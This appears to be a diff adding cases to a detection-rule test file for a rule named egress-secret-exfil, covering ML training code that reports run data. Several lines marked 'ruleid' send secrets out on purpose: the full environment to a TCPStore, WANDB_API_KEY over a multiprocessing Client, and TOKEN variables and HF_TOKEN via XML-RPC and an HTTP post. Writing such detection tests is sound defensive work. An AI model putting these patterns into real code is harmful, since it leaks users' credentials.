@@ -76,3 +76,42 @@ def log_runtime_env(writer, args):
     wandb.config.update(vars(args))
     # ok: egress-secret-exfil
     wandb.log({"job": os.environ.get("SLURM_JOB_ID"), "host": os.environ.get("HOSTNAME")})
+
+
+# Issue #16: channels that are not HTTP, and a client kept on self.
+import xmlrpc.client
+from multiprocessing.connection import Client
+
+from torch.distributed import TCPStore
+
+
+def publish_worker_info(master, port, rank):
+    store = TCPStore(master, port, is_master=False)
+    # ruleid: egress-secret-exfil
+    store.set(f"worker/{rank}", json.dumps(dict(os.environ)))
+    # ok: egress-secret-exfil
+    store.set(f"ready/{rank}", "1")
+
+
+def ship_token(dashboard):
+    with Client(dashboard) as conn:
+        # ruleid: egress-secret-exfil
+        conn.send(os.environ.get("WANDB_API_KEY"))
+
+
+class SchedulerReporter:
+    def __init__(self, endpoint):
+        self.proxy = xmlrpc.client.ServerProxy(endpoint)
+        self.session = requests.Session()
+
+    def on_log(self, step, logs):
+        # ruleid: egress-secret-exfil
+        self.proxy.report(step, logs, {k: v for k, v in os.environ.items() if "TOKEN" in k})
+        # ruleid: egress-secret-exfil
+        self.session.post("https://metrics.internal/v1", json={"token": os.environ["HF_TOKEN"]})
+        # ok: egress-secret-exfil
+        self.proxy.report(step, logs, {"job": os.environ.get("SLURM_JOB_ID")})
+
+    def heartbeat(self):
+        # ok: egress-secret-exfil
+        self.proxy.ping(len(os.environ["HF_TOKEN"]))
